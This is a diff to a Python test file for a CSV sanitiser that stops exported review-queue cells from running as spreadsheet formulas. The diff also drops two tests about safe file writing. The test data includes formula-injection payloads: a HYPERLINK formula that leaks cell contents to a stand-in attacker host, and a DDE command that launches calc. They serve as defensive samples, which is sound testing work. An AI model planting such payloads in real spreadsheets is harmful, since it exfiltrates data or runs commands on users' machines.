@@ -1,12 +1,11 @@
 """review_queue.csv is opened by stewards in spreadsheets: no cell may run as a formula."""
 
 import csv
-from pathlib import Path
 
 import polars as pl
 import pytest
 
-from whiteglove.safe_csv import spreadsheet_safe, write_csv_for_people
+from whiteglove.safe_csv import csv_for_people, spreadsheet_safe
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A2,"ver ficha")',
@@ -54,7 +53,8 @@ def test_the_written_file_is_safe_when_read_back_as_a_spreadsheet_would(tmp_path
             "match_probability": [0.71, 0.55],
         }
     )
-    path = write_csv_for_people(frame, tmp_path / "review_queue.csv")
+    path = tmp_path / "review_queue.csv"
+    path.write_bytes(csv_for_people(frame))
 
     raw = path.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
@@ -66,17 +66,3 @@ def test_the_written_file_is_safe_when_read_back_as_a_spreadsheet_would(tmp_path
     assert rows[1]["name_l"] == 'Ana "la" grande\nRuiz'  # quoting keeps it one cell
     assert rows[0]["reasons"] == "'=cmd|' /C calc'!A0; ok"
     assert rows[0]["match_probability"] == "0.71"
-
-
-def test_writing_leaves_no_temporary_file(tmp_path):
-    write_csv_for_people(pl.DataFrame({"a": ["=1"]}), tmp_path / "q.csv")
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["q.csv"]
-
-
-def test_a_failed_write_leaves_the_previous_file_and_no_temporary_file(tmp_path):
-    path = write_csv_for_people(pl.DataFrame({"a": ["old"]}), tmp_path / "q.csv")
-    unwritable = pl.DataFrame({"a": [{"nested": 1}]})  # a struct cannot be written as CSV
-    with pytest.raises(Exception):  # noqa: B017 - polars' own error type is not the point
-        write_csv_for_people(unwritable, path)
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["q.csv"]
-    assert "old" in Path(path).read_text(encoding="utf-8-sig")
